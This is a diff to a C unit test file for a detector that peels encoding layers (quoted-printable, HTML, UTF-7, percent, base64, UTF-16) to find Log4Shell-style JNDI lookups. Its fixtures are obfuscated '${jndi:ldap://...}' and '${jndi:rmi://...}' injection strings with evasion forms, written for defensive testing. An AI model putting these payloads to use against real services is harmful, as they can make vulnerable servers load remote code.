@@ -98,7 +98,7 @@ static void what_asks_is_not_peeled(void)
 static void layers_that_only_a_name_shows(void)
 {
     static const struct row rows[] = {
-        {SPAN_LITERAL("a=3Db ${jndi:ldap://h/a?b=3D1}"), "ldap://h/a?b=1", "quoted-printable",
+        {SPAN_LITERAL("a=b ${jndi:ldap://h/a?b=3D1}"), "ldap://h/a?b=1", "quoted-printable",
          "${jndi:ldap://h/a?b=3D1}"},
         {SPAN_LITERAL("${jndi:ldap://h/=C3=A4}"), "ldap://h/\xc3\xa4", "quoted-printable",
          "${jndi:ldap://h/=C3=A4}"},
@@ -110,13 +110,18 @@ static void layers_that_only_a_name_shows(void)
          "${jndi:\\\\-ldap://h/b:-}"},
         {SPAN_LITERAL("${jndi:ldap://h/?a=1&amp;b}"), "ldap://h/?a=1&b", "html",
          "${jndi:ldap://h/?a=1&amp;b}"},
-        {SPAN_LITERAL("%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"), "ldap://h/a b", "percent plus",
-         "%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"},
+        {SPAN_LITERAL("${${date:&#x27;j&#x27;}ndi:x:y} ${jndi:x:z}"), "x:y", "html",
+         "${${date:&#x27;j&#x27;}ndi:x:y}"},
+        {SPAN_LITERAL("${jndi:ldap://h/a+-+AOQ-}"), "ldap://h/a+\xc3\xa4", "utf-7",
+         "${jndi:ldap://h/a+-+AOQ-}"},
+        {SPAN_LITERAL("http://h/ %24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"), "ldap://h/a b",
+         "percent plus", "%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"},
         {SPAN_LITERAL("JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="), "ldap://h/ab", "base64 quoted-printable",
          "JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="},
         /* not in all of the text, or of what nobody encodes */
-        {SPAN_LITERAL("a=b ${jndi:ldap://h/a?b=3D1}"), "ldap://h/a?b=3D1", "",
-         "${jndi:ldap://h/a?b=3D1}"},
+        {SPAN_LITERAL("${jndi:ldap://h/?a=1&b=3D1}"), "ldap://h/?a=1&b=3D1", "",
+         "${jndi:ldap://h/?a=1&b=3D1}"},
+        {SPAN_LITERAL("${jndi:ldap://h/a+AOQb}"), "ldap://h/a+AOQb", "", "${jndi:ldap://h/a+AOQb}"},
         {SPAN_LITERAL("${jndi:ldap://h/a?b=41}"), "ldap://h/a?b=41", "", "${jndi:ldap://h/a?b=41}"},
         {SPAN_LITERAL("${jndi:ldap:\\\\h}"), "ldap:\\\\h", "", "${jndi:ldap:\\\\h}"},
         {SPAN_LITERAL("${jndi:ldap://h/\\u00e4\\-}"), "ldap://h/\\u00e4\\-", "",
@@ -143,6 +148,23 @@ static void encoded_words_within_other_layers(void)
         peel(rows[i].text);
         CU_ASSERT(name_is(rows[i].name) && encodings_are(rows[i].encodings));
     }
+}
+
+/* Two characters of ASCII in front are no half of the UTF-16 behind them: read as a whole, the last
+ * brace would be lost with what follows. */
+static void utf16_behind_another_text(void)
+{
+    struct sbuf text = sbuf_with_cap(1024);
+    struct span in = SPAN("${jndi:ldap://x/a} ${jndi:rmi://y/b}");
+    sbuf_add_str(&text, "user=");
+    for (size_t i = 0; i < in.len; i++) {
+        sbuf_add_byte(&text, 0);
+        sbuf_add_byte(&text, in.data[i]);
+    }
+    sbuf_add_str(&text, "&pass=x");
+    peel(sbuf_span(&text));
+    CU_ASSERT(name_is("ldap://x/a") && result.lookup.n_names == 2);
+    sbuf_free(&text);
 }
 
 static void layers_of_escapes(void)
@@ -562,6 +584,7 @@ static CU_TestInfo layer_tests[] = {
     {"what asks is not peeled", what_asks_is_not_peeled},
     {"layers that only a name shows", layers_that_only_a_name_shows},
     {"encoded words within other layers", encoded_words_within_other_layers},
+    {"UTF-16 behind another text", utf16_behind_another_text},
     {"layers of escapes", layers_of_escapes},
     {"layers as a whole", layers_as_a_whole},
     {"base64, alone and in its place", base64_alone_and_in_its_place},
